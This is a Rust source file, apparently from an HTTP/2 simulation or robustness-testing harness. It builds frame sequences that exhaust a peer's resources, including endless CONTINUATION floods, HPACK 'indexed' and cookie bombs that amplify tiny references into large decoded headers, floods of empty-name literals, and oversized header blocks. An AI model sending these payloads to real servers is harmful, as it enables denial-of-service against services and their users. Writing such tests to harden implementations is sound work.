//! Field sections that cost more to take than to send.

use std::io;
use std::thread;
use std::time::Duration;

use shuntyard_sim::refcodec::frame::Frame;
use shuntyard_sim::refcodec::hpack::{Encoder, Indexing};
use shuntyard_sim::refcodec::{Field, field};

use crate::peer::Peer;

/// The pseudo-header fields of a request, by the static table.
const REQUEST: &[u8] = &[0x82, 0x86, 0x84, 0x41, 1, b'v'];

fn headers(stream: u32, block: Vec<u8>, end_headers: bool) -> Frame {
    Frame::Headers { stream, block, padding: None, priority: None, end_headers, end: true }
}

/// Literals that stay out of all tables.
fn literals(names: impl Iterator<Item = String>, value: usize) -> Vec<u8> {
    let fields: Vec<Field> = names.map(|name| field(name, vec![b'v'; value])).collect();
    Encoder::new(false).encode(&fields, Indexing::Without)
}

/// One field block without end.
pub fn continuations(peer: &mut Peer) -> io::Result<()> {
    let mut frames = Vec::new();
    if !peer.has_opened() {
        frames.push(headers(peer.new_stream(), REQUEST.to_vec(), false));
    }
    let block = literals((0..30).map(|n| format!("x-{n}")), 500);
    frames.push(Frame::Continuation { stream: 1, block, end_headers: false });
    peer.frames(frames)
}

/// One field block that ends never, in frames of nothing.
pub fn empty_continuations(peer: &mut Peer) -> io::Result<()> {
    let mut frames = Vec::new();
    if !peer.has_opened() {
        frames.push(headers(peer.new_stream(), REQUEST.to_vec(), false));
    }
    frames.extend((0..200).map(|_| Frame::Continuation { stream: 1, block: vec![], end_headers: false }));
    peer.frames(frames)
}

/// Field lines without name and value.
pub fn empty_names(peer: &mut Peer) -> io::Result<()> {
    let mut block = REQUEST.to_vec();
    // Literal Header Field without Indexing, new name: two empty strings (RFC 7541 section 6.2.2).
    block.extend([0, 0, 0].repeat(2_000));
    let frames: Vec<_> = (0..10).map(|_| headers(peer.new_stream(), block.clone(), true)).collect();
    peer.frames(frames)
}

/// One large entry of the dynamic table, and references to it.
pub fn indexed_bomb(peer: &mut Peer) -> io::Result<()> {
    let mut frames = Vec::new();
    if !peer.has_opened() {
        let mut block = REQUEST.to_vec();
        let entry = [field("x-large", vec![b'v'; 3_900])];
        block.extend(Encoder::new(false).encode(&entry, Indexing::Incremental));
        frames.push(headers(peer.new_stream(), block, true));
    }
    let mut block = REQUEST.to_vec();
    // Indexed, the newest entry of the dynamic table but the authority's.
    block.extend(vec![0xbe; 15_000]);
    frames.extend((0..10).map(|_| headers(peer.new_stream(), block.clone(), true)));
    peer.frames(frames)
}

/// Cookie crumbs of one octet each: a reference to the static table costs one.
pub fn cookie_bomb(peer: &mut Peer) -> io::Result<()> {
    let mut block = REQUEST.to_vec();
    // Indexed, 32 of the static table: `cookie` with an empty value.
    block.extend(vec![0xa0; 15_000]);
    let frames: Vec<_> = (0..10).map(|_| headers(peer.new_stream(), block.clone(), true)).collect();
    peer.frames(frames)
}

/// Large crumbs of cookies, as many as a head has room for: an octet each, once the first is in the dynamic table. There is no answer.
pub fn cookie_crumbs(peer: &mut Peer) -> io::Result<()> {
    if peer.opened().count() == 100 {
        thread::sleep(Duration::from_millis(20));
        return Ok(());
    }
    let crumbs = vec![field("cookie", vec![b'c'; 500]); 110];
    let frames: Vec<_> = (0..10).map(|_| peer.request("GET", "/attack/never", &crumbs, true).1).collect();
    peer.frames(frames)
}

/// Large heads, as many at once as a connection has room for: what comes beyond is refused, and costs.
pub fn large(peer: &mut Peer) -> io::Result<()> {
    if peer.is_blocked() || peer.open_streams() > 4 {
        thread::sleep(Duration::from_millis(1));
        return peer.say(&[]);
    }
    let mut block = REQUEST.to_vec();
    block.extend(literals((0..30).map(|n| format!("x-{n}")), 500));
    let frames: Vec<_> = (0..10).map(|_| headers(peer.new_stream(), block.clone(), true)).collect();
    peer.frames(frames)
}
